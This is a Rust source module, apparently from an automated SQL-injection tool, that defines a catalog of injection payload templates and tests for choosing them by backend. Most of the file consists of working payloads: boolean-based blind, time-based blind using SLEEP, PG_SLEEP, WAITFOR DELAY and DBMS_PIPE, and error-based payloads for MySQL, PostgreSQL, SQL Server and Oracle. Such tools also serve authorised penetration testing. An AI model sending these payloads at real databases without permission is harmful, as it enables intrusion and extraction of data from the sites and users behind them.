pub mod render;

use crate::dialect::Backend;
use crate::models::Technique;

pub use render::{instantiate, render, RenderParams};

/// A candidate payload shape, tried during confirmation.
#[derive(Debug, Clone, PartialEq)]
pub struct PayloadTemplate {
    pub technique: Technique,
    pub title: String,
    /// Placeholders: `[ORIGVALUE] [INFERENCE] [SLEEPTIME] [RANDNUM] [RANDSTR]`.
    pub template: String,
    pub backend: Option<Backend>,
    /// Error text a TRUE inference provokes (error technique only).
    pub signature: Option<String>,
}

impl PayloadTemplate {
    pub fn new(technique: Technique, title: &str, template: &str, backend: Option<Backend>) -> Self {
        Self {
            technique,
            title: title.to_string(),
            template: template.to_string(),
            backend,
            signature: None,
        }
    }

    pub fn with_signature(mut self, signature: &str) -> Self {
        self.signature = Some(signature.to_string());
        self
    }
}

/// Ordered collection of payload templates.
#[derive(Debug, Clone)]
pub struct PayloadCatalog {
    templates: Vec<PayloadTemplate>,
}

impl Default for PayloadCatalog {
    fn default() -> Self {
        Self::builtin()
    }
}

impl PayloadCatalog {
    pub fn new(templates: Vec<PayloadTemplate>) -> Self {
        Self { templates }
    }

    pub fn builtin() -> Self {
        use Technique::*;
        let b = |title: &str, template: &str| PayloadTemplate::new(Boolean, title, template, None);
        let t = |backend: Backend, title: &str, template: &str| PayloadTemplate::new(Time, title, template, Some(backend));
        let e = |backend: Backend, title: &str, template: &str, sig: &str| {
            PayloadTemplate::new(Error, title, template, Some(backend)).with_signature(sig)
        };

        let templates = vec![
            b("AND boolean-based blind - WHERE or HAVING clause", "[ORIGVALUE] AND ([INFERENCE])"),
            b("AND boolean-based blind - WHERE or HAVING clause (quoted)", "[ORIGVALUE]' AND ([INFERENCE]) AND '[RANDSTR]'='[RANDSTR]"),
            b("AND boolean-based blind - WHERE or HAVING clause (double quoted)", "[ORIGVALUE]\" AND ([INFERENCE]) AND \"[RANDSTR]\"=\"[RANDSTR]"),
            b("AND boolean-based blind - parenthesized (quoted)", "[ORIGVALUE]') AND ([INFERENCE]) AND ('[RANDSTR]'='[RANDSTR]"),
            b("AND boolean-based blind - comment", "[ORIGVALUE]' AND ([INFERENCE])-- -"),
            b("OR boolean-based blind - WHERE or HAVING clause", "-[RANDNUM] OR ([INFERENCE])"),

            t(Backend::Mysql, "MySQL >= 5.0.12 AND time-based blind (query SLEEP)",
              "[ORIGVALUE] AND (SELECT [RANDNUM] FROM (SELECT(IF(([INFERENCE]),SLEEP([SLEEPTIME]),0)))[RANDSTR])"),
            t(Backend::Mysql, "MySQL >= 5.0.12 AND time-based blind (query SLEEP, quoted)",
              "[ORIGVALUE]' AND (SELECT [RANDNUM] FROM (SELECT(IF(([INFERENCE]),SLEEP([SLEEPTIME]),0)))[RANDSTR])-- -"),
            t(Backend::Postgresql, "PostgreSQL > 8.1 AND time-based blind",
              "[ORIGVALUE] AND [RANDNUM]=(CASE WHEN ([INFERENCE]) THEN (SELECT [RANDNUM] FROM PG_SLEEP([SLEEPTIME])) ELSE [RANDNUM] END)"),
            t(Backend::Postgresql, "PostgreSQL > 8.1 AND time-based blind (quoted)",
              "[ORIGVALUE]' AND [RANDNUM]=(CASE WHEN ([INFERENCE]) THEN (SELECT [RANDNUM] FROM PG_SLEEP([SLEEPTIME])) ELSE [RANDNUM] END)-- -"),
            t(Backend::Mssql, "Microsoft SQL Server stacked time-based blind (IF)",
              "[ORIGVALUE];IF(([INFERENCE])) WAITFOR DELAY '0:0:[SLEEPTIME]'-- -"),
            t(Backend::Mssql, "Microsoft SQL Server stacked time-based blind (IF, quoted)",
              "[ORIGVALUE]';IF(([INFERENCE])) WAITFOR DELAY '0:0:[SLEEPTIME]'-- -"),
            t(Backend::Oracle, "Oracle AND time-based blind",
              "[ORIGVALUE] AND [RANDNUM]=(CASE WHEN ([INFERENCE]) THEN DBMS_PIPE.RECEIVE_MESSAGE('[RANDSTR]',[SLEEPTIME]) ELSE [RANDNUM] END)"),

            e(Backend::Mysql, "MySQL AND error-based - conditional subquery",
              "[ORIGVALUE] AND [RANDNUM]=(SELECT IF(([INFERENCE]),(SELECT 1 UNION SELECT 2),[RANDNUM]))",
              "Subquery returns more than 1 row"),
            e(Backend::Postgresql, "PostgreSQL AND error-based - division by zero",
              "[ORIGVALUE] AND [RANDNUM]=(SELECT [RANDNUM]/(CASE WHEN ([INFERENCE]) THEN 0 ELSE 1 END))",
              "division by zero"),
            e(Backend::Mssql, "Microsoft SQL Server AND error-based - divide by zero",
              "[ORIGVALUE] AND [RANDNUM]=(SELECT [RANDNUM]/(CASE WHEN ([INFERENCE]) THEN 0 ELSE 1 END))",
              "Divide by zero error"),
            e(Backend::Oracle, "Oracle AND error-based - divisor is equal to zero",
              "[ORIGVALUE] AND [RANDNUM]=(SELECT [RANDNUM]/(CASE WHEN ([INFERENCE]) THEN 0 ELSE 1 END) FROM DUAL)",
              "ORA-01476"),
        ];
        Self { templates }
    }

    /// Templates for `technique`: backend-agnostic ones first, then those for
    /// `backend` (or every backend when none is known).
    pub fn candidates(&self, technique: Technique, backend: Option<Backend>) -> Vec<&PayloadTemplate> {
        let of_technique = self.templates.iter().filter(|t| t.technique == technique);
        let generic = of_technique.clone().filter(|t| t.backend.is_none());
        let specific = of_technique.filter(|t| match (t.backend, backend) {
            (Some(_), None) => true,
            (Some(tb), Some(b)) => tb == b,
            (None, _) => false,
        });
        generic.chain(specific).collect()
    }

    pub fn len(&self) -> usize {
        self.templates.len()
    }

    pub fn is_empty(&self) -> bool {
        self.templates.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_boolean_candidates_are_generic() {
        let catalog = PayloadCatalog::builtin();
        let candidates = catalog.candidates(Technique::Boolean, Some(Backend::Mysql));
        assert!(!candidates.is_empty());
        assert!(candidates.iter().all(|t| t.backend.is_none()));
        assert_eq!(candidates[0].template, "[ORIGVALUE] AND ([INFERENCE])");
    }

    #[test]
    fn test_time_candidates_narrow_with_backend() {
        let catalog = PayloadCatalog::builtin();
        let all = catalog.candidates(Technique::Time, None);
        let mysql = catalog.candidates(Technique::Time, Some(Backend::Mysql));
        assert!(all.len() > mysql.len());
        assert!(mysql.iter().all(|t| t.backend == Some(Backend::Mysql)));
    }

    #[test]
    fn test_error_templates_carry_signatures() {
        let catalog = PayloadCatalog::builtin();
        for t in catalog.candidates(Technique::Error, None) {
            assert!(t.signature.is_some(), "{} lacks a signature", t.title);
        }
    }
}
